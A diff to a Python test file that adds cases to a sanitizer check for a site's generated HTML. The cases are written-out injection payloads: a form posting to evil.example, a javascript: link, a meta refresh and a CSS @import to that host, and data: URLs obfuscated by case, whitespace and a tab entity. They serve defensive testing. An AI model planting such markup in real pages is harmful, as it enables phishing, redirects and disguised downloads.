@@ -142,6 +142,12 @@ def test_the_copy_button_copies_the_block_itself(site, old, new, match):
         ("<footer", '<form action="https://evil.example/"><footer', "nh3"),
         ("<footer", '<svg><a href="javascript:alert(1)"><text>x</text></a></svg><footer', "nh3"),
         ("<footer", '<img src="data:image/svg+xml,%3Csvg%3E" alt=""><footer', "<img src="),
+        # a data: URL anywhere else is a file the site does not hold: a link that downloads a
+        # script which never ran, or opens a page of its own (the scheme as a browser reads it)
+        ("<footer", '<a href="data:text/x-python;base64,cHJpbnQoMSk=">nccl_check.py</a><footer', "a data: URL"),
+        ("<footer", '<a href=" DATA:text/html,x">x</a><footer', "a data: URL"),
+        ("<footer", '<a href="da&#9;ta:application/octet-stream,x">x</a><footer', "a data: URL"),
+        ("<footer", '<img src="DATA:image/svg+xml;base64,PHN2Zy8+" alt=""><footer', "<img src="),
         ("<footer", '<meta http-equiv="refresh" content="0;url=https://evil.example/"><footer', "http-equiv"),
         ("<footer", '<style>.highlight .nf{display:none}</style><footer', "'display'"),
         ("<footer", '<style>@import "https://evil.example/a.css";</style><footer', "@-rule"),
